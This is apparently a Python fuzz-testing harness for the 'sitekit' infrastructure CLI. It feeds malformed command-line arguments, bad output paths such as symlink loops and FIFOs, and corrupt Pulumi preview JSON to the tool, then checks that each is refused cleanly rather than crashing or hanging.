    config = data["config"]
    paths = [("config",) + p for p in _paths(config) if p[0] in PEER_KEYS]
    path = paths[draw(st.integers(0, len(paths) - 1))]
    parent, last = _get(data, path[:-1]), path[-1]
    op = draw(st.sampled_from(["replace", "replace", "delete", "long"]))
    if op == "delete":
        del parent[last]
    else:
        parent[last] = LONG if op == "long" else draw(st.sampled_from(HOSTILE_VALUES))
    return Case("peer", file, PEER_OF[STACKS[file]], _dump(data), reads="peer", note=f"{op} {dotted_path(path)}")


def dotted_path(path: tuple) -> str:
    return ".".join(str(p)[:40] for p in path)


# ------------------------------------------------------------------------------------------------ new-site
NEW_SITE = ("new-site", "-j", "us", "-r", "us-ashburn-1")
CMD = "sitekit new-site"

NEW_SITE_RULES: list[tuple[str, str, list[str]]] = [
    # (option, key a refusal names, bad values); NAME is the argument
    ("NAME", "NAME", ["x" * 300, LONG, "a/b", "..", "Zz-new", "zz_new", "", "zz-" + "x" * 30]),
    ("--power-mw", "--power-mw", ["0", "-1", "nan", "inf", "-inf", "1e400", "5000.5"]),
    ("--pue", "--pue", ["0", "nan", "inf", "-inf", "1e400", "0.5", "3.5", "-1"]),
    ("--availability-domain", "--availability-domain", ["0", "4", "-1", "99999999999999999999"]),
    ("--pools", "--pools", ["train:0", "train:nan", "train:101", LONG, "train=BM.GPU.NOPE:50", "train:1e400"]),
    ("--operator-cidr", "--operator-cidr", [LONG, "0.0.0.0/0", "10.0.0.0/33"]),
    ("--tenancy-id", "--tenancy-id", [LONG, "tenancy"]),
    ("--jurisdiction", "--jurisdiction", [LONG, "../us", "u/s"]),
    ("--region", "--region", [LONG, "us-ashburn-9"]),
    ("--home-region", "--home-region", [LONG]),
    ("--transfer-mechanism", "--transfer-mechanism", [LONG]),
]
"""Arguments `sitekit new-site` must refuse, each naming its option, before any work."""


def new_site_args(option: str, value: str, name: str = "zz-new") -> tuple[str, ...]:
    """A `new-site` command line with `option` set to `value` (options as --opt=value, so a value starting with
    '-' stays a value; the name after `--`, so it is never read as an option)."""
    if option == "NAME":
        return NEW_SITE + ("--", value)
    if option in ("--jurisdiction", "--region"):
        flag = "-j" if option == "--jurisdiction" else "-r"
        i = NEW_SITE.index(flag)
        return NEW_SITE[:i] + NEW_SITE[i + 2:] + (f"{option}={value}", "--", name)
    return NEW_SITE + (f"{option}={value}", "--", name)


def new_site_case(option: str, index: int) -> Case:
    _, key, values = next(r for r in NEW_SITE_RULES if r[0] == option)
    value = values[index]
    return Case("rule", "", "", None, args=new_site_args(option, value), reads="cli", expect=(CMD, key),
                note=f"new-site {option}={value[:30]!r}")


NEW_JURISDICTION_RULES: list[tuple[str, str]] = [("CODE", "x" * 300), ("CODE", LONG), ("CODE", "../us"),
                                                 ("CODE", "u/s"), ("--regions", LONG)]
"""Arguments `sitekit new-jurisdiction` must refuse, naming them, before the code names a file."""


def new_jurisdiction_case(index: int) -> Case:
    option, value = NEW_JURISDICTION_RULES[index]
    args = ("new-jurisdiction", "--", value) if option == "CODE" else ("new-jurisdiction", f"{option}={value}", "--", "zz")
    return Case("rule", "", "", None, args=args, reads="cli", expect=("sitekit new-jurisdiction", option),
                note=f"new-jurisdiction {option}={value[:30]!r}")


_FLOATS = st.floats(allow_nan=True, allow_infinity=True).map(repr) | st.sampled_from(
    ["1e400", "-1e400", "1e308", "5e-324", "0", "-0", "20", "1.2", "3", "1", "5000", "nan", "inf"])


@st.composite
def new_site_cases(draw, pristine: Pristine) -> Case:
    """`sitekit new-site` with one to three options drawn from valid and bad values (numbers past float range,
    NaN, infinities, long and odd text); exit 0 or a refusal naming each bad argument, never a traceback."""
    options = {
        "--power-mw": _FLOATS, "--pue": _FLOATS,
        "--availability-domain": st.integers(-(10**30), 10**30).map(str) | st.sampled_from(["1", "2", "3"]),
        "--pools": st.text(max_size=40) | st.sampled_from(["train:85,serve:15", "train=BM.GPU.H200.8", LONG]),
        "--operator-cidr": st.sampled_from(["198.51.100.0/25", "10.0.0.0/8", LONG, ""]) | st.text(max_size=20),
        "--tenancy-id": st.sampled_from(["ocid1.tenancy.oc1..aaaa", LONG, ""]) | st.text(max_size=20),
        "--home-region": st.sampled_from(["us-ashburn-1", "us-phoenix-1", LONG]) | st.text(max_size=20),
    }
    chosen = draw(st.lists(st.sampled_from(sorted(options)), min_size=1, max_size=3, unique=True))
    name = draw(st.sampled_from(["zz-new", "zz-new", "us-ashburn", "x" * 300, LONG, "a/b", ""])
                | st.text(alphabet="abz-09/._", max_size=30))
    args = NEW_SITE + tuple(f"{o}={draw(options[o])}" for o in chosen) + ("--", name)
    return Case("args", "", "", None, args=args, reads="cli", note="new-site " + " ".join(chosen))


# ------------------------------------------------------------------------------------------------ report paths
SCRATCH = "scratch"
"""A folder of the project copy where report-path and preview cases put what they need (removed after each)."""

OUTPUT_TARGETS: dict[str, tuple[str, str | None]] = {
    # name: (the path given, what is made there first)
    "missing-folder": (f"{SCRATCH}/missing/report.txt", None),
    "folder": (f"{SCRATCH}/dir", "dir"),
    "dangling-link": (f"{SCRATCH}/link", "dangling"),
    "link-loop": (f"{SCRATCH}/loop", "loop"),
    "fifo": (f"{SCRATCH}/fifo", "fifo"),
    "parent-is-a-file": (f"{SCRATCH}/file/report.txt", "parent-file"),
    "full-device": ("/dev/full", None),
    "empty": ("", None),
    "long-name": (f"{SCRATCH}/" + "x" * 300, None),
    "exists": (f"{SCRATCH}/exists", "file"),
}
"""Where `--output FILE` must refuse to write (each named in the refusal, before any work)."""

HTML_TARGETS: dict[str, tuple[str, str | None]] = {
    "regular-file": (f"{SCRATCH}/file", "file"),
    "device": ("/dev/null", None),
    "dangling-link": (f"{SCRATCH}/link", "dangling"),
    "link-loop": (f"{SCRATCH}/loop", "loop"),
    "fifo": (f"{SCRATCH}/fifo", "fifo"),
    "empty": ("", None),
    "long-name": (f"{SCRATCH}/" + "x" * 300, None),
    "index-is-a-folder": (f"{SCRATCH}/site", "index-dir"),
    "index-dangling": (f"{SCRATCH}/site", "index-dangling"),
    "index-exists": (f"{SCRATCH}/site", "index-file"),
}
"""Where `fleet --html DIR` must refuse to write."""

PREVIEW_DIR_TARGETS: dict[str, tuple[str, str | None]] = {
    "regular-file": (f"{SCRATCH}/file", "file"), "dangling-link": (f"{SCRATCH}/link", "dangling"),
    "link-loop": (f"{SCRATCH}/loop", "loop"), "empty": ("", None), "missing": (f"{SCRATCH}/missing", None),
}
"""Where `review --preview-json DIR` must refuse to read."""

REVIEW = ("review", "--mode", "offline", "--no-progress")


def output_cases() -> list[Case]:
    """Every bad report path of every command that writes one: `review --output`, `policy --output`, `fleet
    --html`, and the folder `review --preview-json` reads; each must be refused naming the path (or the option)."""
    cases = []
    for name, (target, make) in OUTPUT_TARGETS.items():
        for command in (REVIEW, ("policy", "us-ashburn", "--no-progress")):
            cases.append(Case("output", target, "", None, fs=make, args=command + ("--output", target), reads="cli",
                              expect=(target or "sitekit", "--output"), note=f"{command[0]} --output {name}"))
    for name, (target, make) in HTML_TARGETS.items():
        cases.append(Case("output", target, "", None, fs=make, reads="cli",
                          args=("fleet", "--history", "0", "--no-progress", "--html", target),
                          expect=(target or "sitekit", "--html"), note=f"fleet --html {name}"))
    for name, (target, make) in PREVIEW_DIR_TARGETS.items():
        cases.append(Case("output", target, "", None, fs=make, args=REVIEW + ("--preview-json", target), reads="cli",
                          expect=(target or "sitekit", "--preview-json"), note=f"review --preview-json {name}"))
    return cases


# ------------------------------------------------------------------------------------------------ preview documents
PREVIEW_FILE = f"{SCRATCH}/preview/us-ashburn.json"
_URN = "urn:pulumi:us-ashburn::sitekit::"


def preview_document() -> dict[str, Any]:
    """A small, well-formed `pulumi preview --json --diff` document: a create, an update, a replace, a delete of
    a protected resource, the stack itself, and the engine's refusal."""
    vcn, subnet, bucket = "oci:Core/vcn:Vcn", "oci:Core/subnet:Subnet", "oci:ObjectStorage/bucket:Bucket"
    return {
        "steps": [
            {"op": "same", "urn": _URN + "pulumi:pulumi:Stack::sitekit-us-ashburn"},
            {"op": "create", "urn": _URN + f"{vcn}::us-ashburn-vcn-gpu",
             "newState": {"type": vcn, "inputs": {"cidrBlocks": ["10.64.0.0/18"]}}},
            {"op": "update", "urn": _URN + f"{subnet}::us-ashburn-subnet-gpu-nodes",
             "oldState": {"type": subnet, "inputs": {"displayName": "a"}},
             "newState": {"type": subnet, "inputs": {"displayName": "b"}},
             "diffReasons": ["displayName"], "detailedDiff": {"displayName": {"kind": "update"}}},
            {"op": "replace", "urn": _URN + f"{subnet}::us-ashburn-subnet-gpu-fabric",
             "oldState": {"type": subnet, "inputs": {"cidrBlock": "10.64.64.0/19"}},
             "newState": {"type": subnet, "inputs": {"cidrBlock": "10.64.96.0/19"}},
             "replaceReasons": ["cidrBlock"], "detailedDiff": {"cidrBlock": {"kind": "update-replace"}}},
            {"op": "delete", "urn": _URN + f"{bucket}::us-ashburn-bucket-datasets",
             "oldState": {"type": bucket, "inputs": {"name": "datasets"}, "protect": True}},
        ],
        "diagnostics": [{"severity": "error", "message": "refusing to delete protected resource"}],
        "changeSummary": {"create": 1, "update": 1, "replace": 1, "delete": 1},
    }


JSON_VALUES: list[Any] = [None, True, 0, -1, 1.5, "", LONG, [], {}, [1], {"a": 1}, "nope", "urn:x", "::::", 10**30]


def _json(data: Any) -> bytes:
    return json.dumps(data).encode()


def preview_hostile() -> dict[str, bytes]:
    good = _json(preview_document())
    return {
        "empty": b"", "null": b"null", "list": b"[]", "number": b"42", "text": b'"steps"', "truncated": good[:-7],
        "deep-list": b"[" * 100_000 + b"]" * 100_000, "deep-steps": b'{"steps": [' + b"[" * 5000 + b"]" * 5000 + b"]}",
        "deep-state": (b'{"steps": [{"op": "create", "urn": "' + _URN.encode() + b'a:b:C::n", "newState": '
                       + b'{"a": ' * 5000 + b"1" + b"}" * 5000 + b"}]}"),
        "not-utf8": b'{"steps": [], "x": "\xff\xfe"}',
        "utf-16": good.decode().encode("utf-16"), "bom": b"\xef\xbb\xbf" + good, "nan": good.replace(b"1.5", b"NaN"),
        "steps-mapping": _json({"steps": {"a": 1}}), "steps-text": _json({"steps": "x"}),
        "binary": bytes(range(256)), "nul": good[:20] + b"\x00" + good[20:],
    }


PREVIEW_RULES: list[tuple[str, Any, str]] = [
    # (what, the document, the key a refusal names)
    ("step-not-object", {"steps": [1]}, "steps.0"),
    ("step-list", {"steps": [[{"op": "create"}]]}, "steps.0"),
    ("step-without-urn", {"steps": [{"op": "create", "newState": {"type": "a:b:C", "inputs": {}}}]}, "steps.0.urn"),
    ("urn-number", {"steps": [{"op": "create", "urn": 5}]}, "steps.0.urn"),
    ("urn-malformed", {"steps": [{"op": "create", "urn": "nope"}]}, "steps.0.urn"),
    ("steps-mapping", {"steps": {"a": 1}}, "steps"),
    ("state-list", {"steps": [{"op": "create", "urn": _URN + "a:b:C::n", "newState": []}]}, "steps.0.newState"),
    ("inputs-list", {"steps": [{"op": "create", "urn": _URN + "a:b:C::n", "newState": {"inputs": [1]}}]},
     "steps.0.newState.inputs"),
    ("detailed-diff-list", {"steps": [{"op": "update", "urn": _URN + "a:b:C::n", "detailedDiff": [1]}]},
     "steps.0.detailedDiff"),
    ("diff-entry-text", {"steps": [{"op": "update", "urn": _URN + "a:b:C::n", "detailedDiff": {"x": "y"}}]},
     "steps.0.detailedDiff.x"),
    ("reasons-text", {"steps": [{"op": "update", "urn": _URN + "a:b:C::n", "diffReasons": "cidrBlock"}]},
     "steps.0.diffReasons"),
    ("op-number", {"steps": [{"op": 5, "urn": _URN + "a:b:C::n"}]}, "steps.0.op"),
    ("diagnostic-text", {"steps": [], "diagnostics": ["boom"]}, "diagnostics.0"),
    ("diagnostics-mapping", {"steps": [], "diagnostics": {"a": 1}}, "diagnostics"),
    ("deep-list", None, ""),
    ("deep-state", None, ""),
]
"""Malformed preview documents: each is bad input, refused naming the file and the step (or part) at fault."""


def preview_rule_case(index: int) -> Case:
    what, doc, key = PREVIEW_RULES[index]
    content = preview_hostile()[what] if doc is None else _json(doc)
    return Case("rule", PREVIEW_FILE, "", content, reads="preview", expect=(PREVIEW_FILE, key), note=f"preview {what}")


@st.composite
def preview_cases(draw, pristine: Pristine) -> Case:
    """A preview document with one value replaced, deleted or renamed, its text cut or a token inserted, or a
    whole-file hostile document, or something that is not a file; read as `review --preview-json` reads it."""
    family = draw(st.sampled_from(["data", "data", "text", "hostile", "fs"]))
    if family == "fs":
        op = draw(st.sampled_from(["dir", "dangling", "loop", "fifo", "unreadable"]))
        return Case("preview", PREVIEW_FILE, "", None, fs=op, reads="preview", note=f"fs {op}")
    if family == "hostile":
        docs = preview_hostile()
        name = draw(st.sampled_from(sorted(docs)))
        return Case("preview", PREVIEW_FILE, "", docs[name], reads="preview", note=f"hostile {name}")
    raw = _json(preview_document())
    if family == "text":
        at = draw(st.integers(0, len(raw)))
        cut = draw(st.booleans())
        out = raw[:at] if cut else raw[:at] + draw(st.sampled_from([b"[", b"{", b"]", b"}", b",", b'"', b"\\", b"\x00",
                                                                     b"\xff", b"1e999", b"NaN", b"-"])) + raw[at:]
        return Case("preview", PREVIEW_FILE, "", out, reads="preview", note="text " + ("cut" if cut else "insert"))
    doc = preview_document()
    paths = list(_paths(doc))
    path = paths[draw(st.integers(0, len(paths) - 1))]
    parent, last = _get(doc, path[:-1]), path[-1]
    op = draw(st.sampled_from(["replace", "replace", "delete", "rename"]))
    if op == "delete":
        del parent[last]
    elif op == "rename" and isinstance(parent, dict):
        parent[str(last).upper()] = parent.pop(last)
    else:
        parent[last] = draw(st.sampled_from(JSON_VALUES))
    return Case("preview", PREVIEW_FILE, "", _json(doc), reads="preview", note=f"{op} {dotted_path(path)}")


def exhaustive_cases(pristine: Pristine) -> Iterator[Case]:
    """Every enumerated case (test_fuzz.py parametrizes them one by one; bench/fuzz_report.py counts them): each
    rule on every shipped site, every hostile document and filesystem case on every file kind, and the newer
    surfaces' rules."""
    for name, _, values in RULES:
        for i in range(len(values)):
            for site in sorted(SITES):
                yield rule_case(pristine, site, name, i)
    for file in FILES:
        site = STACKS.get(file) or PROFILES.get(file) or "us-ashburn"
        for name, content in sorted(hostile_documents(file, pristine.raw[file]).items()):
            yield Case("hostile", file, site, content, note=name)
        for op in FS_OPS:
            yield fs_case(file, site, op)
    for file in sorted(STACKS):
        for plan in PEER_PLANS:
            yield peer_case(pristine, file, *plan)
    for option, _, values in NEW_SITE_RULES:
        for i in range(len(values)):
            yield new_site_case(option, i)
    for i in range(len(NEW_JURISDICTION_RULES)):
        yield new_jurisdiction_case(i)
    yield from output_cases()
    for i in range(len(PREVIEW_RULES)):
        yield preview_rule_case(i)
    for name, content in sorted(preview_hostile().items()):
        yield Case("hostile", PREVIEW_FILE, "", content, reads="preview", note=name)


def all_cases(pristine: Pristine) -> st.SearchStrategy[Case]:
    """Every family that loads a site or reads a catalog file, weighted towards the cheap, wide ones."""
    return st.one_of(text_cases(pristine), text_cases(pristine), data_cases(pristine), data_cases(pristine),
                     hostile_cases(pristine), fs_cases(pristine), rule_cases(pristine))


def newer_cases(pristine: Pristine) -> st.SearchStrategy[Case]:
    """The surfaces added since the first hardening: peers' stack files, `new-site` arguments, preview
    documents."""
    return st.one_of(peer_cases(pristine), new_site_cases(pristine), preview_cases(pristine))


# ------------------------------------------------------------------------------------------------ running
class _Hang(BaseException):
    pass


def _alarm(signum, frame):  # pragma: no cover - only on a hang
    raise _Hang()


def reader(case: Case) -> str:
    """How a case is judged: `site` (load_site), `prices` (the price catalog as fleet and review read it), `peer`
    (load_site of a site naming the broken one as a peer, and the plan cache's keys), `preview` (a preview
    document as `review --preview-json` reads it), `cli` (a command line, in-process)."""
    return case.reads or ("prices" if case.file == PRICES else "site")


NEWER_RULES = ("former-names", "overrides-null", "unnamed-baseline-item", "long-value")
"""Rule cases of the site files added with the newer surfaces (issue 17)."""


def surface(case: Case) -> str:
    """What a case exercises, for counting: `earlier` (the files and rules of the first hardening), or one of the
    newer surfaces: prices, peers, stamp-args (`new-site`, `new-jurisdiction`), report-paths, preview,
    spec-rules (formerNames, overrides null, a baseline item without its name, long values, a file linked from
    outside the project)."""
    how = reader(case)
    if how == "cli":
        return "stamp-args" if case.args[:1] in (("new-site",), ("new-jurisdiction",)) else "report-paths"
    if how in ("prices", "preview"):
        return how
    if how == "peer":
        return "peers"
    if case.family == "rule" and case.note.startswith(NEWER_RULES) or case.fs == "outside":
        return "spec-rules"
    return "earlier"


def _scratch(case: Case) -> bool:
    return case.reads in ("cli", "preview")


def install(project: Path, pristine: Pristine, case: Case) -> None:
    if _scratch(case):
        _install_scratch(project, case)
        return
    path = project / case.file
    if case.content is not None:
        path.write_bytes(case.content)
        return
    _remove(path)
    if case.fs == "parent-file":
        shutil.rmtree(path.parent)
        path.parent.write_text("not a folder\n")
    else:
        _make(path, case.fs, pristine.raw[case.file])


def _make(path: Path, op: str | None, content: bytes) -> None:
    """What `op` says at `path`: a folder, a link to nothing, a link loop, a FIFO, an unreadable file or a file
    (of `content`), a link to a copy of `content` outside the project."""
    if op == "dir":
        path.mkdir()
    elif op == "dangling":
        path.symlink_to(path.parent / "nowhere")
    elif op == "loop":
        path.symlink_to(path.name)
    elif op == "fifo":
        os.mkfifo(path)
    elif op in ("unreadable", "file"):
        path.write_bytes(content)
        path.chmod(0 if op == "unreadable" else 0o644)
    elif op == "outside":
        elsewhere = Path(tempfile.mkdtemp(prefix="sitekit-fuzz-outside-")) / path.name
        elsewhere.write_bytes(content)
        path.symlink_to(elsewhere)


def _install_scratch(project: Path, case: Case) -> None:
    """What a command-line or preview case needs in the scratch folder: a file's bytes, or `fs` made at its path."""
    (project / SCRATCH).mkdir(exist_ok=True)
    if not case.file.startswith(SCRATCH + "/"):
        return  # a device, an empty path: nothing to make
    path = project / case.file
    if case.fs == "parent-file":
        path.parent.write_text("not a folder\n")
        return
    if case.content is None and case.fs is None:
        return  # a path in a folder that does not exist, or too long a name: nothing to make
    path.parent.mkdir(parents=True, exist_ok=True)
    if case.content is not None:
        path.write_bytes(case.content)
    elif case.fs.startswith("index-"):
        path.mkdir()
        _make(path / "index.html", {"index-dir": "dir", "index-file": "file", "index-dangling": "dangling"}[case.fs],
              b"<p>mine</p>\n")
    else:
        _make(path, case.fs, b"{}")


def restore(project: Path, pristine: Pristine, case: Case) -> None:
    if _scratch(case):
        shutil.rmtree(project / SCRATCH, ignore_errors=True)
        return
    path = project / case.file
    if case.fs == "parent-file":
        path.parent.unlink()
        shutil.copytree(pristine.root / case.file.rsplit("/", 1)[0], path.parent)
        return
    if case.fs == "outside" and path.is_symlink():
        shutil.rmtree(Path(os.readlink(path)).parent, ignore_errors=True)
    _remove(path)
    path.write_bytes(pristine.raw[case.file])


def _remove(path: Path) -> None:
    if path.is_symlink() or (path.exists() and not path.is_dir()) or stat.S_ISFIFO(_lmode(path)):
        path.unlink()
    elif path.is_dir():
        shutil.rmtree(path)


def _lmode(path: Path) -> int:
    try:
        return path.lstat().st_mode
    except OSError:
        return 0


def run_case(project: Path, pristine: Pristine, case: Case, load: Callable[[Path, str], Any]) -> Outcome:
    """Install the case, load its site with `load` (or judge it as `reader` says), restore the project; classify
    what happened."""
    install(project, pristine, case)
    old = signal.signal(signal.SIGALRM, _alarm)
    # repeats each second after the first alarm: a raise swallowed where Python ignores exceptions (a gc
    # callback) is raised again
    signal.setitimer(signal.ITIMER_REAL, HANG_SECONDS * 4, 1.0)
    start = time.perf_counter()
    try:
        try:
            outcome = _judge(project, case, load)
        except _Hang:
            outcome = Outcome("hang", 0.0, detail=f"stopped after {HANG_SECONDS * 4:.0f} s")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
        restore(project, pristine, case)
    outcome.seconds = time.perf_counter() - start
    if outcome.kind in ("ok", "refused") and outcome.seconds > HANG_SECONDS:
        outcome.detail = f"{outcome.kind} after {outcome.seconds:.1f} s"
        outcome.kind = "hang"
    return outcome


def _judge(project: Path, case: Case, load: Callable[[Path, str], Any]) -> Outcome:
    from sitekit.errors import SpecError

    how = reader(case)
    if how == "cli":
        return _judge_cli(project, case)
    try:
        invalid = None
        if how == "prices":
            invalid = _prices(project)
        elif how == "preview":
            _preview(project / case.file)
        else:
            load(project, case.site)
            if how == "peer":
                _cache_keys(project, case.site)
    except SpecError as exc:
        lines = str(exc).splitlines()
        pattern = ARG_LINE if how == "preview" else LINE
        bad = [line for line in lines if not pattern.match(line)] + [line for line in lines if len(line) > MAX_LINE]
        if bad or not lines:
            return Outcome("bad-lines", 0.0, lines, "; ".join(b[:200] for b in bad[:3]) or "no lines")
        if case.expect and not _names(exc.problems, *case.expect):
            return Outcome("accepted-invalid", 0.0, lines, f"no problem names {case.expect}")
        return Outcome("refused", 0.0, lines)
    except Exception as exc:  # noqa: BLE001 - a traceback at the command line
        return crash(exc)
    if invalid:
        return Outcome("accepted-invalid", 0.0, detail=invalid)
    if case.expect:
        return Outcome("accepted-invalid", 0.0, detail=f"loaded; expected a refusal naming {case.expect}")
    return Outcome("ok", 0.0)


def _names(problems, file: str, key: str) -> bool:
    return any((p.file == file or p.file.endswith("/" + file)) and
               (not key or p.key == key or p.key.startswith(key + ".")) for p in problems)


# ------------------------------------------------------------------------------------------------ judges
def sample_plan() -> list[dict[str, Any]]:
    """Planned resources that the price catalog prices: a node pool of every shape the shipped catalog prices,
    a cluster network, a load balancer (as plan snapshots record them)."""
    shapes = yaml.safe_load((Path(__file__).resolve().parent.parent / PRICES).read_text())["gpuShapes"]
    config = "oci:Core/instanceConfiguration:InstanceConfiguration"
    out = [{"type": config, "name": "ic", "urn": "ic", "inputs": {"instanceDetails": {"launchDetails": {
               "shape": "BM.GPU.H100.8", "sourceDetails": {"bootVolumeSizeInGbs": 512}}}}},
           {"type": "oci:Core/clusterNetwork:ClusterNetwork", "name": "cn", "urn": "cn",
            "inputs": {"instancePools": [{"instanceConfigurationId": "ic-id", "size": 4}]}},
           {"type": "oci:LoadBalancer/loadBalancer:LoadBalancer", "name": "lb", "urn": "lb",
            "inputs": {"shapeDetails": {"maximumBandwidthInMbps": 1000}}}]
    out += [{"type": "oci:ContainerEngine/nodePool:NodePool", "name": f"np-{s}", "urn": f"np-{s}",
             "inputs": {"nodeShape": s, "nodeConfigDetails": {"size": 2}, "nodeSourceDetails": {"bootVolumeSizeInGbs": 100}}}
            for s in shapes]
    return out


_SAMPLE: list[dict[str, Any]] = []


def _prices(project: Path) -> str | None:
    """The price catalog as fleet and review read it, a plan priced with it and its JSON; why the result is
    invalid (a negative or non-finite cost, JSON that is not JSON), or None."""
    import math

    from sitekit.run.cost import load_prices, monthly_cost

    if not _SAMPLE:
        _SAMPLE.extend(sample_plan())
    cost = monthly_cost(_SAMPLE, load_prices(project)).to_dict()
    figures = [cost["monthlyUsd"], *cost["byShape"].values()]
    if not all(isinstance(f, (int, float)) and math.isfinite(f) and f >= 0 for f in figures):
        return f"priced: {str(figures)[:200]} (a cost that is negative, infinite or not a number)"
    try:
        json.dumps(cost, allow_nan=False)
    except ValueError as exc:
        return f"--format json would not be JSON: {exc}"
    return None


def _preview(path: Path) -> None:
    from sitekit.review.preview import changes_from_preview, load_preview

    changes_from_preview(load_preview(path))


def _cache_keys(project: Path, site: str) -> None:
    """What `sitekit plan` does before loading: the plan cache's keys of every site."""
    from sitekit.run.cache import SideKeys

    keys = SideKeys(project)
    for name in keys.facts:
        keys.key(name)


_GIT = ("-c", "user.name=fuzz", "-c", "user.email=fuzz@example.org", "-c", "commit.gpgsign=false")


def _git_project(project: Path) -> None:
    """`review` compares with a git base: make the project copy a repository once (its files as shipped)."""
    if (project / ".git").is_dir():
        return
    import subprocess

    for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "fuzz base"]):
        subprocess.run(["git", *_GIT, *args], cwd=project, check=True, capture_output=True)


def _listing(project: Path) -> set[Path]:
    return {p for folder in (project, project / "stacks", project / "stacks" / "jurisdictions")
            if folder.is_dir() for p in folder.iterdir()}


def _judge_cli(project: Path, case: Case) -> Outcome:
    """Run a command line in-process in the project; exit 0, or 2 with every line `where[:line]: key: ...`."""
    from typer.testing import CliRunner

    from sitekit.cli.main import app

    if case.args and case.args[0] == "review":
        _git_project(project)
    before = _listing(project)
    cwd = os.getcwd()
    os.chdir(project)
    try:
        result = CliRunner().invoke(app, list(case.args))
    finally:
        os.chdir(cwd)
        for extra in _listing(project) - before:  # what a command wrote (a stamped site, index.html in the project)
            _remove(extra)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        return crash(result.exception)
    lines = result.stderr.splitlines()
    if result.exit_code == 0:
        if case.expect:
            return Outcome("accepted-invalid", 0.0, detail=f"exit 0; expected a refusal naming {case.expect}")
        return Outcome("ok", 0.0)
    if result.exit_code != 2:
        return Outcome("accepted-invalid" if case.expect else "crash", 0.0, lines,
                       f"exit {result.exit_code}: {result.stderr[-300:]}")
    bad = [line for line in lines if not ARG_LINE.match(line) or len(line) > MAX_LINE]
    if bad or not lines:
        return Outcome("bad-lines", 0.0, lines, "; ".join(b[:200] for b in bad[:3]) or "no lines")
    if case.expect:
        where, key = case.expect
        if not any(line.startswith(where[:150]) and key in line for line in lines):
            return Outcome("accepted-invalid", 0.0, lines, f"no line names {case.expect}")
    return Outcome("refused", 0.0, lines)
